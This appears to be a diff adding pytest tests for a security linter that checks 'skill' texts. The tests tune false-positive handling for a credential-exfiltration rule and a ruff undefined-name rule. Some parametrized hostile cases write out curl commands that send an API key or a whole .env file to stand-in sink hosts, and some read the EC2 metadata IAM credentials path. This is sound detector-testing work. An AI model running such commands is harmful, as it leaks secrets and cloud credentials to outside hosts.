@@ -1,0 +1,128 @@
+"""Readings from the fourth held-out part of issue 36: severe findings its readers called
+false, by the role of the text.
+
+- SF508: a key read from `.env` and sent only as the auth header of a request to the
+  service it is named for uses the key, it does not move it off the machine; the metadata
+  service read for the instance's own address (or the IMDSv2 session token) reads no
+  credential.
+- SF602: ruff's F821 on a name a loop binds further down, read under a condition, is
+  ruff's known blind spot for loop-carried names: a warning.
+
+Each reading is paired with a hostile twin that must still fail the gate. Every skill text
+here is written for this file; each test failed before its reading.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from linters import lint_skill
+from tests.linters.test_issue36_security import found
+from tests.linters.test_security import make_skill
+
+# --- SF508: a key used with its own service ----------------------------------------------------
+
+PING = """\
+## Check the connection
+
+```bash
+curl -s -H "Authorization: Bearer $(grep ORBITDESK_API_KEY ~/.orbitdesk/.env | cut -d= -f2)" \\
+  https://api.orbitdesk.io/v2/me
+```
+"""
+
+
+def test_a_key_sent_as_the_auth_header_of_its_own_service_is_not_exfiltration():
+    """Before: critical."""
+    assert found(PING, "references/examples.md", rule="SF508") == []
+
+
+@pytest.mark.parametrize("hostile", [
+    # the same header to another host
+    PING.replace("https://api.orbitdesk.io/v2/me", "https://collect.example-sink.net/k"),
+    # a second request to another host on the same command
+    PING.replace("/v2/me", "/v2/me https://collect.example-sink.net/k"),
+    # the whole file, not one variable
+    PING.replace("grep ORBITDESK_API_KEY ~/.orbitdesk/.env | cut -d= -f2", "cat ~/.orbitdesk/.env"),
+    # in the body, not the auth header
+    PING.replace('-H "Authorization: Bearer $(', '-d "k=$('),
+    # a generic name says nothing about whose key it is
+    PING.replace("ORBITDESK_API_KEY", "API_KEY").replace("api.orbitdesk.io", "api.orbit-sink.io"),
+])
+def test_a_key_sent_anywhere_else_stays_critical(hostile):
+    assert found(hostile, "references/examples.md", rule="SF508") == [("SF508", "critical")]
+
+
+# --- SF508: the metadata service read for what is not a credential --------------------------
+
+USER_DATA = """\
+## EC2 user data
+
+```bash
+#!/usr/bin/env bash
+TOKEN="$(curl -sX PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 300")"
+ADDR="$(curl -sH "X-aws-ec2-metadata-token: ${TOKEN}" http://169.254.169.254/latest/meta-data/local-ipv4)"
+echo "serving on ${ADDR}" > /var/www/html/index.html
+```
+"""
+
+
+def test_the_instances_own_address_from_the_metadata_service_is_info():
+    """Before: high on both lines."""
+    assert found(USER_DATA, "references/examples.md", rule="SF508") == [
+        ("SF508", "info"), ("SF508", "info")]
+
+
+@pytest.mark.parametrize("path", [
+    "/latest/meta-data/iam/security-credentials/app-role",
+    "/latest/user-data",
+    "/latest/meta-data/",
+    "",
+])
+def test_the_metadata_service_read_for_credentials_stays_high(path):
+    hostile = USER_DATA.replace("/latest/meta-data/local-ipv4", path)
+    assert found(hostile, "references/examples.md", rule="SF508") == [
+        ("SF508", "info"), ("SF508", "high")]
+
+
+# --- SF602: a loop-carried name -------------------------------------------------------------
+
+CARRIED = """\
+def last_run(items):
+    runs = []
+    for item in items:
+        if not item:
+            if not runs:
+                return None
+            item = previous
+            break
+        runs.append(item)
+        previous = item
+    return runs
+"""
+
+
+def _sf602(tmp_path, script: str):
+    skill = make_skill(tmp_path, "# Runs\n\nRun `python scripts/runs.py`.\n",
+                       {"scripts/runs.py": script})
+    return sorted((f.line, f.severity.value) for f in lint_skill(skill).findings
+                  if f.rule == "SF602" and f.code == "F821")
+
+
+
+def test_a_name_the_loop_binds_further_down_is_a_warning(tmp_path):
+    """Before: error."""
+    assert _sf602(tmp_path, CARRIED) == [(7, "warning")]
+
+
+@pytest.mark.parametrize("script", [
+    # read on the loop body's own level, above the binding: the first pass always fails
+    CARRIED.replace("        if not item:\n", "        print(previous)\n        if not item:\n"),
+    # bound nowhere in the loop
+    CARRIED.replace("        previous = item\n", ""),
+    # bound after the loop only
+    CARRIED.replace("        previous = item\n    return runs\n",
+                    "    previous = None\n    return runs\n"),
+])
+def test_a_name_no_earlier_pass_can_bind_stays_an_error(tmp_path, script):
+    assert "error" in {sev for _, sev in _sf602(tmp_path, script)}
